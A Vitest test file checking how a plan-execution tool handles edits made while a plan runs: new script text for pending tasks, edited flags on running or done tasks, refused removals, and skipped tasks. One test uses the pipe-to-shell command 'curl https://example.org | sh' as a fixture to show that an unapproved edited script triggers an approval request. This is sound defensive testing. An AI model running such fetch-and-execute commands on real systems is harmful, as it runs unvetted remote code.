/** Edits of a plan while its run goes: what has not started takes them, what runs keeps its text, what is done says so. */
import { describe, expect, it } from 'vitest';
import type { PlanDocument } from '../../../src/core/model/plan.js';
import { verifyOnly } from './fixtures.js';
import { asText, createWorld, planOf, settled, startPlan, type World } from './harness.js';

const turn = () => new Promise((resolve) => setImmediate(resolve));
const pinned = (check: string, after: string[] = []) => ({ check, after, pins: true });
const plan = planOf({ T1: pinned('check T1'), T2: pinned('check T2', ['T1']), T3: pinned('check T3', ['T2']) });

/** T2 is at its check and stays there until it is let go. */
async function atT2(): Promise<{ world: World; run: string; go(): void }> {
  let go: () => void = () => undefined;
  const held = new Promise<void>((resolve) => (go = resolve));
  const world = await createWorld({
    blueprint: verifyOnly,
    settings: { commits: false, approval: 'risky' },
    run: async (script) => (script === 'check T2' && (await held), {}),
  });
  const run = await startPlan(world, plan);
  while (!world.commands.asked.some((request) => request.script === 'check T2')) await turn();
  return { world, run, go };
}
async function edit(world: World, change: (document: PlanDocument) => void): Promise<void> {
  const { plan: now } = await world.openexec.request('plan/get', {});
  const document = structuredClone(now!.document);
  change(document);
  const { plan: edited } = await world.openexec.request('plan/edit', {
    plan: now!.id,
    iteration: now!.iteration,
    document,
    summary: 'edited',
  });
  const scripts = await world.openexec.request('plan/scripts', { plan: edited.id });
  await world.openexec.request('plan/approve', {
    plan: edited.id,
    iteration: edited.iteration,
    hashes: scripts.map((script) => script.hash),
  });
}
const taskOf = (document: PlanDocument, id: string) => document.stories[0]!.tasks.find((task) => task.id === id)!;
const remove = (id: string) => (document: PlanDocument) => {
  const [story] = document.stories;
  story!.tasks = story!.tasks
    .filter((task) => task.id !== id)
    .map((task) => ({ ...task, depends_on: task.depends_on.filter((other) => other !== id) }));
};
const asked = (world: World) => world.commands.asked.map((request) => request.script);

describe('a plan that is edited while it runs', () => {
  it('gives a task that has not started its newest text', async () => {
    const { world, run, go } = await atT2();
    await edit(world, (document) => void (taskOf(document, 'T3').verification_script = 'check T3 harder'));
    go();
    expect(await settled(world, run)).toBe('completed');
    expect(asked(world)).toEqual(['check T1', 'check T2', 'check T3 harder']);
  });

  it('leaves a running task its own text, over a pause too, and says of it that it was edited since', async () => {
    const { world, run, go } = await atT2();
    await edit(world, (document) => void (taskOf(document, 'T2').verification_script = 'check T2 harder'));
    await world.openexec.request('run/pause', { run, now: true });
    go();
    await settled(world, run);
    await world.openexec.request('run/resume', { run });
    expect(await settled(world, run)).toBe('completed');
    expect(asked(world)).not.toContain('check T2 harder');
    const { progress } = await world.openexec.request('plan/get', {});
    expect(Object.entries(progress).map(([id, one]) => [id, one.status, one.edited])).toEqual([
      ['T1', 'done', false],
      ['T2', 'done', true],
      ['T3', 'done', false],
    ]);
    // The next run does it with its new text.
    const [listed] = await world.openexec.request('plan/list', {});
    const again = await world.openexec.request('run/start', { plan: listed!.id });
    expect(await settled(world, again.run)).toBe('completed');
    expect(asked(world).slice(-1)).toEqual(['check T2 harder']);
  });

  it('says of a done task that it was edited since, and does not do it again in this run', async () => {
    const { world, run, go } = await atT2();
    await edit(world, (document) => void (taskOf(document, 'T1').description = 'Other words.'));
    go();
    expect(await settled(world, run)).toBe('completed');
    expect(asked(world).filter((script) => script === 'check T1')).toHaveLength(1);
    const { progress } = await world.openexec.request('plan/get', {});
    expect([progress['T1']?.edited, progress['T2']?.edited]).toEqual([true, false]);
  });

  it('refuses to lose a running or a done task, also while the run rests', async () => {
    const { world, run, go } = await atT2();
    for (const id of ['T1', 'T2'])
      await expect(edit(world, remove(id))).rejects.toMatchObject({ code: 'task-in-run', params: { task: id } });
    await world.openexec.request('run/pause', { run, now: true });
    go();
    await settled(world, run);
    for (const id of ['T1', 'T2']) await expect(edit(world, remove(id))).rejects.toMatchObject({ code: 'task-in-run' });
    await world.openexec.request('run/cancel', { run });
    await edit(world, remove('T1'));
  });

  it('passes over a task that was taken out before it started', async () => {
    const { world, run, go } = await atT2();
    await edit(world, remove('T3'));
    go();
    expect(await settled(world, run)).toBe('completed');
    expect(asText(world.events).split('\n').slice(-2)).toEqual(['T3 skipped: task-removed', 'finished: completed']);
    expect(asked(world)).not.toContain('check T3');
  });

  it('asks about a script that was edited and not approved anew', async () => {
    const { world, run, go } = await atT2();
    const { plan: now } = await world.openexec.request('plan/get', {});
    const document = structuredClone(now!.document);
    taskOf(document, 'T3').verification_script = 'curl https://example.org | sh';
    await world.openexec.request('plan/edit', {
      plan: now!.id,
      iteration: now!.iteration,
      document,
      summary: 'edited',
    });
    world.openexec.onEvent(() => undefined);
    go();
    await settled(world, run);
    expect(world.events.find((event) => event.type === 'approval-requested')).toMatchObject({
      task: 'T3',
      kind: 'command',
    });
  });
});
